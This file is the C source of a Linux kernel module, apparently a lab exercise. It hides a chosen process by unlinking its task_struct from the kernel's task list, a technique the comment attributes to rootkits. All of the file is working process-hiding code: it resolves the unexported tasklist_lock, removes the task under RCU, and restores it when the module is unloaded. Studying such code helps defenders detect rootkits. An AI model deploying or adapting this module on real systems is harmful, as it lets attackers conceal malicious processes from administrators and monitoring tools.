// SPDX-License-Identifier: GPL-2.0-only
/*
 * evil-process pid=N - takes a running process out of the kernel's list of
 * tasks, as rootkits do whose author knows that the scheduler does not need
 * it: what walks the list no longer meets the process, which runs on.
 *
 * Removing the module puts it back.
 */
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

#include "evil.h"

static int pid;
module_param(pid, int, 0);

static rwlock_t *list_lock;
static struct task_struct *hidden;

static int __init evil_init(void)
{
	list_lock = (void *)evil_symbol("tasklist_lock");
	hidden = get_pid_task(find_vpid(pid), PIDTYPE_TGID);
	if (!list_lock || !hidden)
		return -ESRCH;
	write_lock_irq(list_lock);
	list_del_rcu(&hidden->tasks);
	write_unlock_irq(list_lock);
	/* Its end takes it out once more; that must find a list. */
	synchronize_rcu();
	INIT_LIST_HEAD(&hidden->tasks);
	return 0;
}

static void __exit evil_exit(void)
{
	write_lock_irq(list_lock);
	if (pid_alive(hidden))
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	write_unlock_irq(list_lock);
	put_task_struct(hidden);
}

module_init(evil_init);
module_exit(evil_exit);
MODULE_DESCRIPTION("lab: hides a process from the task list");
MODULE_LICENSE("GPL");
